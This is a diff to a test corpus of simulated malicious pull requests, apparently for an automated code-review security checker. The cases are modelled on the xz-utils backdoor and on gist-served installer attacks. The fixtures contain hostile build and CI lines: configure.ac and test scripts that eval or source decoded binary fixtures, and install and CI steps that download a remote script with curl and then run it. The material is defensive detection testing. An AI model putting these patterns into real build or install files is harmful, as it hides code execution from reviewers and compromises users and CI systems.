@@ -1912,6 +1912,65 @@ export const ATTACK_CASES: CorpusEntry[] = [
     expect: { level: 'low', action: 'approve' },
   },
   {
+    id: 'attack-configure-ac-evals-unpacked-test-file',
+    description:
+      'The xz-utils build-to-host.m4 stage (CVE-2024-3094) written without the pipe into $SHELL: a "fix out-of-tree builds" PR adds a binary test file and a configure.ac line that evals, in backticks, what sed, a tr character swap and `xz -d` make of it. ./configure runs code that is in no file a reviewer reads.',
+    fixture: () =>
+      attackPr({
+        repo: 'lzfast',
+        number: 9450,
+        title: 'build: fix out-of-tree builds',
+        author: 'newcomer',
+        files: [
+          { path: 'tests/files/good-3-lzma2.xz', status: 'added', patch: null, additions: 0, deletions: 0, head: '' },
+          {
+            path: 'configure.ac',
+            base: lines('AC_INIT([lzfast], [5.6.1])', 'AM_INIT_AUTOMAKE([foreign])', 'AC_PROG_CC', 'AC_CONFIG_FILES([Makefile])', 'AC_OUTPUT'),
+            head: lines('AC_INIT([lzfast], [5.6.1])', 'AM_INIT_AUTOMAKE([foreign])', 'AC_PROG_CC', 'gl_srcmap=`echo "$srcdir" | sed "s/ /_/g"`', 'eval `sed -e \'s/\\x00/\\n/g\' "$srcdir/tests/files/good-3-lzma2.xz" | tr "\\t \\-_" " \\t_\\-" | xz -d 2>/dev/null`', 'AC_CONFIG_FILES([Makefile])', 'AC_OUTPUT'),
+          },
+        ],
+      }),
+    expect: { level: 'critical', action: 'request_changes', findings: ['build-code-behavior'] },
+  },
+  {
+    id: 'attack-configure-ac-decodes-fixture-and-sources-it',
+    description:
+      'The build-to-host stage over two lines: a "portable conftest" PR makes configure.ac decode a base64 test fixture into conftest.sh and source it with `. ./conftest.sh`, so ./configure runs a script no reviewer reads.',
+    fixture: () =>
+      attackPr({
+        repo: 'lzfast',
+        number: 9458,
+        title: 'build: portable conftest helpers',
+        author: 'newcomer',
+        files: [
+          { path: 'tests/files/conftest-helpers.b64', status: 'added', patch: null, additions: 0, deletions: 0, head: '' },
+          {
+            path: 'configure.ac',
+            base: lines('AC_INIT([lzfast], [5.6.1])', 'AM_INIT_AUTOMAKE([foreign])', 'AC_PROG_CC', 'AC_CONFIG_FILES([Makefile])', 'AC_OUTPUT'),
+            head: lines('AC_INIT([lzfast], [5.6.1])', 'AM_INIT_AUTOMAKE([foreign])', 'AC_PROG_CC', 'base64 -d "$srcdir/tests/files/conftest-helpers.b64" > conftest.sh 2>/dev/null', '. ./conftest.sh', 'rm -f conftest.sh', 'AC_CONFIG_FILES([Makefile])', 'AC_OUTPUT'),
+          },
+        ],
+      }),
+    expect: { level: 'critical', action: 'request_changes', findings: ['build-code-behavior'] },
+  },
+  {
+    id: 'attack-test-script-evals-dd-cut-fixture',
+    description:
+      'The xz-utils test-file stage (CVE-2024-3094) with eval instead of a pipe: an "add bad-2 fixture" PR adds a binary fixture and a tests/run.sh line `eval "$(dd if=tests/files/bad-2.xz bs=1 skip=1024 2>/dev/null | xz -d)"`: the bytes past the first KiB are decompressed and run by every `make check`, in CI and on developers\' machines.',
+    fixture: () =>
+      attackPr({
+        repo: 'lzfast',
+        number: 9451,
+        title: 'test: add bad-2 fixture',
+        author: 'newcomer',
+        files: [
+          { path: 'tests/files/bad-2.xz', status: 'added', patch: null, additions: 0, deletions: 0, head: '' },
+          { path: 'tests/run.sh', base: lines('#!/bin/sh', 'set -e', './test_codec tests/files'), head: lines('#!/bin/sh', 'set -e', 'eval "$(dd if=tests/files/bad-2.xz bs=1 skip=1024 2>/dev/null | xz -d)"', './test_codec tests/files') },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['obfuscated-code'] },
+  },
+  {
     id: 'attack-landlock-check-stray-dot',
     description:
       "xz-utils, 2024: one '.' added to the test program of CMakeLists.txt's Landlock check made it never compile, so the sandbox was silently left out of every build. Here as a newcomer's \"tidy the Landlock check\" PR.",
@@ -3217,6 +3276,46 @@ export const ATTACK_CASES: CorpusEntry[] = [
             path: '.cirrus.yml',
             base: lines('env:', '  REG_PASSWORD: ENCRYPTED[9c1e77ab]', 'test_task:', '  container:', '    image: golang:1.22', '  test_script: go test ./...'),
             head: lines('env:', '  REG_PASSWORD: ENCRYPTED[9c1e77ab]', 'test_task:', '  container:', '    image: golang:1.22', '  setup_script: curl -fsSL http://gocache-mirror.dev/setup.sh | bash', '  test_script: go test ./...'),
+          },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['curl-pipe-shell'] },
+  },
+  {
+    id: 'attack-install-script-sources-gist',
+    description:
+      'The fetch-and-source installer in two steps: a newcomer\'s "simplify setup" PR makes scripts/install.sh download a gist\'s raw file to a temporary file with `curl -o "$TMP"` and source it with `. "$TMP"`, no pipe into a shell: whatever the gist\'s owner puts there runs in the shell of whoever installs (the tj-actions payload of March 2025 was served from a gist).',
+    fixture: () =>
+      attackPr({
+        repo: 'devbox-kit',
+        number: 9453,
+        title: 'chore: simplify setup',
+        author: 'newcomer',
+        files: [
+          {
+            path: 'scripts/install.sh',
+            base: lines('#!/bin/sh', 'set -eu', 'make build', 'install -m 755 bin/devbox "$PREFIX/bin/devbox"'),
+            head: lines('#!/bin/sh', 'set -eu', 'TMP="$(mktemp)"', 'curl -fsSL -o "$TMP" https://gist.githubusercontent.com/devbox-helper/4f2a9c0e1b7d/raw/setup.sh', '. "$TMP"', 'make build', 'install -m 755 bin/devbox "$PREFIX/bin/devbox"'),
+          },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['downloaded-binary-run'] },
+  },
+  {
+    id: 'attack-gitlab-job-runs-downloaded-script',
+    description:
+      'The same two steps in a CI pipeline: a "speed up CI" PR makes a GitLab job save a stranger\'s setup script with `curl -o` and run it with `bash`, before the tests, with the pipeline\'s variables: `curl … | bash` without the pipe.',
+    fixture: () =>
+      attackPr({
+        repo: 'imgcopy',
+        number: 9454,
+        title: 'ci: warm the build cache',
+        author: 'newcomer',
+        files: [
+          {
+            path: '.gitlab-ci.yml',
+            base: lines('test:', '  image: golang:1.22', '  script:', '    - go test ./...'),
+            head: lines('test:', '  image: golang:1.22', '  script:', '    - curl -fsSL -o /tmp/warm.sh https://gocache-warm.dev/setup.sh', '    - bash /tmp/warm.sh', '    - go test ./...'),
           },
         ],
       }),
